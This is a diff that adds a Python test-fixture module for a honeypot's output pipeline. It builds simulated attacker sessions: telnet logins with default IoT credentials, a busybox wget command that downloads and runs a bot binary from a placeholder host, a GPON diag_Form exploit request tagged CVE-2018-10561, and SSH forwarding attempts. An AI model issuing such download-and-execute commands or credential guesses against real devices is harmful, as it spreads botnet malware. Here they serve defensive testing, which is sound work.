@@ -1,0 +1,82 @@
+"""Sessions as outputs tell them, for tests: from stated facts, through the store's own rows."""
+
+from __future__ import annotations
+
+import hashlib
+import itertools
+from collections.abc import Mapping, Sequence
+from typing import Any
+
+from eudaemon.events import Endpoint, Event, Fact, IdSource
+from eudaemon.events import catalogue as facts
+from eudaemon.farm.geo import Place
+from eudaemon.farm.outputs.batch import Batch
+from eudaemon.farm.store import Row, row_of
+from eudaemon.farm.store.schema import COLUMNS
+
+NOW_S = 1_795_487_000.0
+ELF = b"\x7fELF\x01\x01\x01" + bytes(9) + b"\x02\0\x28\0" + bytes(60)
+ELF_SHA256 = hashlib.sha256(ELF).hexdigest()
+URL = "http://files.example/bins/bot.arm7"
+ATTACKER = "192.31.196.9"  # public, and no host's: AS112 (RFC 7535)
+_NUMBERS = itertools.count()
+IDS = IdSource(lambda n: hashlib.sha256(b"%d" % next(_NUMBERS)).digest()[:n])
+
+
+class Told:
+    """A source, and the batch of all that was added to it."""
+
+    def __init__(self) -> None:
+        self.rows: list[Row] = []
+        self.samples = {ELF_SHA256: ELF}
+        self.keys: set[str] = set()
+
+    def session(
+        self, *said: Fact, room: str = "telnet", transport: str = "tcp", ip: str = ATTACKER, port: int = 23,
+        at_s: float = NOW_S,
+    ) -> str:  # fmt: skip
+        """Add a session that lasts 2 s; return its id."""
+        session = IDS.new(at_s)
+        whole = (facts.SessionOpened(transport, room), *said, facts.SessionClosed(room, "peer", 2.0, 80, 120))
+        local = "2001:db8::1" if ":" in ip else "192.0.2.1"
+        for number, fact in enumerate(whole):
+            moment_s = at_s + 2 * number / (len(whole) - 1)
+            event = Event(IDS.new(moment_s), moment_s, "lab", fact, session, Endpoint(ip, 40226), Endpoint(local, port))
+            self.rows.append(row_of(event, NOW_S, Place("NL", 64496, "Voorbeeld")))
+        return session
+
+    def batch(self) -> Batch:
+        return Batch.of_lines([row.line() for row in self.rows], self)
+
+    def sessions(self, ids: Sequence[str]) -> list[Mapping[str, Any]]:
+        names = [name for name, _ in COLUMNS[:-1]]
+        return [dict(zip(names, row.values, strict=True)) for row in self.rows if row.values[4] in ids]
+
+    def sample(self, sha256: str, bytes_max: int) -> bytes | None:
+        return self.samples.get(sha256)
+
+    def was_told(self, key: str) -> bool:
+        return key in self.keys
+
+
+INFECTION = (
+    facts.LoginTried("root", "1234", accepted=False),
+    facts.LoginTried("root", "xc3511", accepted=True),
+    facts.CommandEntered("enable", ("enable",)),
+    facts.CommandEntered(f"/bin/busybox wget {URL} -O - > dvr; ./dvr"),
+    facts.DownloadWished(URL, "wget"),
+    facts.DownloadFinished(URL, "ok", sha256=ELF_SHA256, size=len(ELF), peer="203.0.113.80"),
+    facts.ArtefactKept(ELF_SHA256, len(ELF), "download", "bot.arm7", URL),
+)
+EXPLOIT = (
+    facts.RequestReceived("POST", "/GponForm/diag_Form?images/", "192.0.2.1", "Hello, World", 120),
+    facts.ExploitRecognised("Dasan GPON diag_Form", "CVE-2018-10561", "wget x"),
+)
+SSH = (
+    facts.SshClientIdentified(
+        "SSH-2.0-libssh-0.9.6", "ec7378c1a92f5a8dde7e8b7a1ddf33d1", "curve25519;aes;mac;none", "ed"
+    ),
+    facts.PublicKeyOffered("root", "ssh-ed25519", "SHA256:abc", "AAAA"),
+    facts.ForwardingAsked("direct-tcpip", "198.51.100.9", 25),
+    facts.LoginTried("root", "root", accepted=True),
+)
